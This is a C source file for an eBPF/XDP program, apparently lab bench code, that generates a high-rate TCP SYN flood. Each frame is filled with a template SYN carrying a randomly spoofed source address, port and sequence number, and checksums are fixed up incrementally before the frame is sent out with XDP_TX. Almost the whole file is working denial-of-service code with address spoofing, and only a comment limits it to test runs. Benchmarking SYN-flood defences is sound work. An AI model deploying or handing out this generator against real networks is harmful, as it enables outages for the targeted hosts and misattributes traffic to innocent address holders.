/*
 * The lab's fast SYN flood (issue 12, item 4): an XDP program that the
 * loader (synflood.c) runs with BPF_PROG_TEST_RUN in live-frames mode
 * (BPF_F_TEST_XDP_LIVE_FRAMES, Linux 5.18), the way xdp-trafficgen sends:
 * the kernel hands it frames from a page pool of its own, the program
 * writes a SYN into each, and XDP_TX sends it out of the interface given
 * as the ingress one, batch by batch, without a socket or an skb on the
 * sending side.
 *
 * Each frame is the template SYN with a random source in the spoofed range
 * (the host bits of cfg.mask4 or cfg.mask6 drawn at random), a random port
 * in 1024-65535 and a random ISN.  The whole template is written anew into
 * every frame: a page comes back to the pool with whatever the path wrote
 * into it (a router that forwards the SYN in place rewrites its MACs and
 * TTL), so nothing in it can be trusted.  The checksums are then updated
 * incrementally from the template's (RFC 1624, eqn. 3).
 *
 * Bench code for the lab only: never attached to an interface (the loader
 * only test-runs it).
 */
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/ipv6.h>
#include <linux/tcp.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_endian.h>

#include "synflood.h"

/* Set by the loader before load (the object's .rodata). */
const volatile struct synflood_cfg cfg = { .ipv = 0 };

/* RFC 1624 eqn. 3, HC' = ~(~HC + ~m + m').  The one's complement sum does
 * not depend on the byte order of the 16-bit words, so raw (network
 * order) words go in as they are. */
static __always_inline __u16 fold(__u32 s)
{
	s = (s & 0xffff) + (s >> 16);
	s = (s & 0xffff) + (s >> 16);
	return (__u16)~s;
}

static __always_inline void csum_replace4(__u16 *sum, __u32 from, __u32 to)
{
	__u32 s = (__u16)~*sum;

	s += (~from & 0xffff) + (~from >> 16);
	s += (to & 0xffff) + (to >> 16);
	*sum = fold(s);
}

static __always_inline void csum_replace2(__u16 *sum, __u16 from, __u16 to)
{
	__u32 s = (__u16)~*sum;

	s += (__u16)~from;
	s += to;
	*sum = fold(s);
}

/* The template into the frame, 16 bits at a time (@n a constant). */
static __always_inline int put_template(__u16 *p, void *end, const int n)
{
	if ((void *)(p + n) > end)
		return -1;
#pragma unroll
	for (int i = 0; i < n; i++)
		p[i] = cfg.frame[i];
	return 0;
}

/* The TCP fields every frame gets anew; the source addresses are the
 * callers'.  Port in 1024-65535, as trafgen's drnd(1024, 65535). */
static __always_inline void new_tcp(struct tcphdr *th)
{
	__u16 port = bpf_htons((__u16)(1024 + bpf_get_prandom_u32() % 64512));
	__u32 seq = bpf_get_prandom_u32();

	csum_replace2(&th->check, th->source, port);
	th->source = port;
	csum_replace4(&th->check, th->seq, seq);
	th->seq = seq;
}

static __always_inline int syn4(void *data, void *end)
{
	struct iphdr *ip = data + sizeof(struct ethhdr);
	struct tcphdr *th = (void *)(ip + 1);
	__u32 src, m = cfg.mask4;

	if (put_template(data, end, SYNFLOOD_LEN4 / 2) < 0 ||
	    (void *)(th + 1) > end)
		return XDP_ABORTED;
	src = (ip->saddr & ~m) | (bpf_get_prandom_u32() & m);
	/* The source is in the IP header's sum and the TCP pseudo-header's. */
	csum_replace4(&ip->check, ip->saddr, src);
	csum_replace4(&th->check, ip->saddr, src);
	ip->saddr = src;
	new_tcp(th);
	return XDP_TX;
}

static __always_inline int syn6(void *data, void *end)
{
	struct ipv6hdr *ip6 = data + sizeof(struct ethhdr);
	struct tcphdr *th = (void *)(ip6 + 1);
	__u32 *w;

	if (put_template(data, end, SYNFLOOD_LEN6 / 2) < 0 ||
	    (void *)(th + 1) > end)
		return XDP_ABORTED;
	w = ip6->saddr.in6_u.u6_addr32;
#pragma unroll
	for (int i = 0; i < 4; i++) {
		__u32 m = cfg.mask6[i], v;

		if (!m)
			continue;
		v = (w[i] & ~m) | (bpf_get_prandom_u32() & m);
		csum_replace4(&th->check, w[i], v);
		w[i] = v;
	}
	new_tcp(th);
	return XDP_TX;
}

SEC("xdp")
int synflood(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data;
	void *end = (void *)(long)ctx->data_end;

	if (cfg.ipv == 4)
		return syn4(data, end);
	if (cfg.ipv == 6)
		return syn6(data, end);
	return XDP_ABORTED;
}

char LICENSE[] SEC("license") = "Dual BSD/GPL";
